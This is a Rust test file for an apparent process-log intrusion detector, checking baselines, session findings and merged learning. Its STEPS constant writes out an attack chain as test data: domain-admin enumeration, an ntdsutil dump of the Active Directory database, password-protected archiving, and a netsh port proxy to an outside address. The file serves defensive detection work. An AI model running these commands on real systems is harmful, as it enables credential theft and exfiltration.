#![allow(clippy::unwrap_used)]
use blackrod_model::{CommandShape, EvidenceId, Position, Severity, estate};

use proptest::prelude::*;

use super::*;
use crate::rarity::{Extractor, SESSION_CODE};

const DAY: i64 = 86_400;
const STEPS: [&str; 4] = [
    r#"cmd.exe /c net group "domain admins" /dom"#,
    r#"ntdsutil "ac i ntds" ifm "create full C:\Windows\Temp\x""#,
    r"rar.exe a -hpsecret C:\Windows\Temp\x.rar C:\Windows\Temp\x",
    "netsh interface portproxy add v4tov4 listenport=9999 connectaddress=203.0.113.7 connectport=8443",
];

fn step(record: u64, time: i64, host: &str, user: &str, command: &str) -> ProcessFacts {
    let image = command.split(' ').next().unwrap();
    let mut facts = Extractor::new(Table::builtin()).command(image, "cmd.exe", command);
    facts.evidence = EvidenceId::default();
    facts.at = Position { offset: 0, record };
    facts.time = Timestamp::from_seconds(1_700_000_000 + time);
    facts.host = host.to_owned();
    facts.user = user.to_owned();
    facts.session = format!("{:#x}", 0x1000 + time / DAY);
    facts
}

fn ordinary_days() -> Vec<ProcessFacts> {
    let mut all = Vec::new();
    for day in 0..20 {
        for (number, user) in ["anna", "ben", "cleo"].iter().enumerate() {
            for (minute, command) in [
                "whoami /all",
                "robocopy d:\\a \\\\srv\\b /mir",
                "net use h: \\\\srv\\h",
            ]
            .iter()
            .enumerate()
            {
                let time = day * DAY + (number * 10 + minute) as i64 * 60;
                all.push(step(
                    all.len() as u64,
                    time,
                    &format!("ws{number}"),
                    user,
                    command,
                ));
            }
        }
    }
    all
}

fn judge(facts: &[ProcessFacts], options: Options) -> Outcome {
    let estate = Estate::default();
    let mut stream = Stream::new(&estate, options);
    facts.iter().for_each(|facts| stream.push(facts));
    stream.finish()
}

#[test]
fn ordinary_work_is_silent_and_an_intrusion_is_one_finding_that_shows_its_terms() {
    let mut facts = ordinary_days();
    assert_eq!(judge(&facts, Options::default()).findings, []);
    for (number, command) in STEPS.iter().enumerate() {
        facts.push(step(
            1_000 + number as u64,
            20 * DAY + number as i64 * 600,
            "ws1",
            "ben",
            command,
        ));
    }
    let outcome = judge(&facts, Options::default());
    let [finding] = outcome.findings.as_slice() else {
        panic!("{:?}", outcome.findings);
    };
    assert_eq!(
        (finding.code.as_str(), finding.severity),
        (SESSION_CODE, Severity::High)
    );
    assert!(finding.attack.iter().any(|id| id == "T1003.003"));
    assert!(finding.entities.iter().any(|entity| entity.value == "ben"));
    assert!(
        finding
            .reason_line()
            .contains("this program, among those of the account: 0 of")
    );
    assert!(
        outcome
            .new_shapes
            .iter()
            .any(|new| new.shape.image.starts_with("ntdsutil"))
    );
    let none = Options {
        alerts_per_day: 0,
        ..Options::default()
    };
    assert_eq!(judge(&facts, none).findings, []);
}

#[test]
fn what_is_usual_says_nothing_for_whom_it_is_and_no_history_is_said() {
    let steps = STEPS.iter().enumerate();
    let facts: Vec<ProcessFacts> = steps
        .map(|(number, command)| step(number as u64, number as i64 * 60, "dc1", "ben", command))
        .collect();
    let found = judge(&facts, Options::default()).findings;
    assert_eq!(found.len(), 1);
    assert!(
        found
            .first()
            .unwrap()
            .reason_line()
            .contains("too few to say what is normal")
    );
    let usual = |accounts: &[&str]| Options {
        usual: facts
            .iter()
            .map(|facts| UsualShape {
                shape: CommandShape {
                    image: facts.image.clone(),
                    skeleton: facts.skeleton.clone(),
                },
                accounts: accounts.iter().map(|&account| account.to_owned()).collect(),
            })
            .collect(),
        ..Options::default()
    };
    assert_eq!(judge(&facts, usual(&[])).findings, []);
    assert_eq!(judge(&facts, usual(&["anna", "ben"])).findings, []);
    assert_eq!(judge(&facts, usual(&["anna"])).findings.len(), 1);
}

#[test]
fn another_account_from_a_machine_where_something_odd_happened_is_the_same_operation() {
    let mut facts = ordinary_days();
    let begin = 20 * DAY;
    for (number, command) in STEPS.iter().enumerate().take(3) {
        facts.push(step(
            1_000 + number as u64,
            begin + number as i64 * 60,
            "ws1",
            "ben",
            command,
        ));
    }
    let mut logon = step(2_000, begin + 600, "srv", "adm", "x");
    logon.act = Act::Logon;
    logon.peer = "ws1".to_owned();
    facts.push(logon);
    facts.push(step(2_001, begin + 660, "srv", "adm", STEPS[3]));
    let outcome = judge(&facts, Options::default());
    let [finding] = outcome.findings.as_slice() else {
        panic!("{:?}", outcome.findings);
    };
    assert!(
        finding.title.contains("adm, ben") || finding.title.contains("ben, adm"),
        "{}",
        finding.title
    );
}

#[test]
fn an_unusual_way_between_workstations_counts_more_where_the_estate_names_its_servers() {
    let logon = |record: u64, time: i64, host: &str| ProcessFacts {
        act: Act::Logon,
        peer: "ws1".to_owned(),
        ..step(record, time, host, "ben", "x")
    };
    let mut facts = ordinary_days();
    facts.extend((0..20).map(|day| logon(900 + day, day as i64 * DAY + 50_000, "srv9")));
    in_order(&mut facts);
    facts.push(logon(1_000, 20 * DAY, "ws2"));
    facts.push(step(1_001, 20 * DAY + 60, "ws2", "ben", STEPS[1]));
    let of = |systems: Vec<estate::System>| {
        let estate = Estate {
            systems,
            ..Estate::default()
        };
        let mut stream = Stream::new(&estate, Options::default());
        facts.iter().for_each(|facts| stream.push(facts));
        let sessions = stream.finish().sessions;
        sessions
            .iter()
            .find(|ranked| ranked.host == "ws2" && ranked.actor == "ben")
            .unwrap()
            .score
    };
    let server = |host: &str| estate::System {
        name: host.to_owned(),
        kind: "file-server".to_owned(),
        hosts: vec![format!("{host}.parl.example")],
        addresses: Vec::new(),
    };
    let (unknown, known, to_server) = (of(Vec::new()), of(vec![server("srv")]), of(vec![server("ws2")]));
    assert!(known > unknown + 0.5, "{known} {unknown}");
    assert_eq!(to_server, unknown);
}

#[test]
fn what_is_new_is_listed_with_who_ran_it_where() {
    let mut facts = ordinary_days();
    for (number, host) in ["ws0", "ws1", "ws1"].iter().enumerate() {
        facts.push(step(
            1_000 + number as u64,
            19 * DAY + number as i64 * 60,
            host,
            "ben",
            STEPS[1],
        ));
    }
    let outcome = judge(&facts, Options::default());
    let new = outcome
        .new_shapes
        .iter()
        .find(|new| new.shape.image.starts_with("ntdsutil"))
        .unwrap();
    assert_eq!(new.times, 3);
    assert_eq!(new.hosts, ["ws0", "ws1"]);
    assert_eq!(new.accounts, ["ben"]);
    assert!(new.can.iter().any(|can| can == "dump"), "{:?}", new.can);
    assert!(
        !outcome
            .new_shapes
            .iter()
            .any(|new| new.shape.image.starts_with("robocopy")),
        "three weeks old"
    );
}

/// An invented week of work with an intrusion in it, drawn from `seeds`.
fn drawn(seeds: &[(u8, u8, u8, u16)]) -> Vec<ProcessFacts> {
    const COMMANDS: [&str; 9] = [
        "whoami /all",
        "robocopy d:\\a \\\\srv\\b /mir",
        "net use h: \\\\srv\\h",
        "ping 10.0.0.1",
        "reg query hklm\\software\\vendor",
        STEPS[0],
        STEPS[1],
        STEPS[2],
        STEPS[3],
    ];
    let draw = |(number, (command, host, user, minute)): (usize, &(u8, u8, u8, u16))| {
        let time = i64::from(*minute) * 60;
        let command = COMMANDS[usize::from(*command) % COMMANDS.len()];
        let mut facts = step(
            number as u64 / 2,
            time,
            &format!("ws{}", host % 4),
            ["anna", "ben", "cleo"][usize::from(*user) % 3],
            command,
        );
        // Some records share time and place in different evidence.
        facts.evidence = EvidenceId([number as u8 % 3; 16]);
        if command.starts_with("ping") {
            facts.act = Act::Logon;
            facts.peer = "ws3".to_owned();
        }
        facts
    };
    let mut all: Vec<ProcessFacts> = seeds.iter().enumerate().map(draw).collect();
    in_order(&mut all);
    all
}

/// As the case hands facts back: by time, evidence, place and content.
fn in_order(facts: &mut [ProcessFacts]) {
    facts.sort_by_cached_key(|facts| {
        let body = blackrod_model::Fact::of(facts).unwrap().body;
        (facts.time, facts.evidence, facts.at.offset, facts.at.record, body)
    });
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn the_order_of_files_changes_nothing(
        seeds in prop::collection::vec(any::<(u8, u8, u8, u16)>(), 1..120),
        order in any::<prop::sample::Index>(),
    ) {
        let whole = drawn(&seeds);
        // Read in another order, as other files or another case: by evidence, from somewhere in the middle.
        let mut read: Vec<ProcessFacts> = whole.clone();
        read.sort_by_key(|facts| facts.evidence);
        let middle = order.index(read.len());
        read.rotate_left(middle);
        in_order(&mut read);
        let (one, other) = (judge(&whole, Options::default()), judge(&read, Options::default()));
        prop_assert_eq!(one.findings, other.findings);
        prop_assert_eq!(one.new_shapes, other.new_shapes);
        prop_assert_eq!(one.sessions, other.sessions);
        prop_assert!(one.baseline == other.baseline);
    }

    /// What two machines learnt apart and merged judges the next day as what one learnt of both.
    #[test]
    fn merged_baselines_judge_as_one_that_saw_all(
        seeds in prop::collection::vec(any::<(u8, u8, u8, u16)>(), 1..160),
        parts in 2_usize..5,
    ) {
        let history = drawn(&seeds);
        let learn = |facts: &mut dyn Iterator<Item = &ProcessFacts>| {
            let estate = Estate::default();
            let mut stream = Stream::new(&estate, Options::default());
            facts.for_each(|facts| stream.push(facts));
            stream.finish().baseline
        };
        let whole = learn(&mut history.iter());
        let mut merged = Baseline::default();
        for part in (0..parts).rev() {
            merged.merge(&learn(&mut history.iter().skip(part).step_by(parts)));
        }
        prop_assert!(merged == whole);
        let next: Vec<ProcessFacts> = STEPS
            .iter()
            .enumerate()
            .map(|(number, command)| step(number as u64, 70_000 * 60 + number as i64 * 60, "ws1", "ben", command))
            .collect();
        let with = |baseline: Baseline| {
            let estate = Estate::default();
            let mut stream = Stream::with_baseline(&estate, Options::default(), baseline);
            next.iter().for_each(|facts| stream.push(facts));
            stream.finish().findings
        };
        prop_assert_eq!(with(merged), with(whole));
    }
}
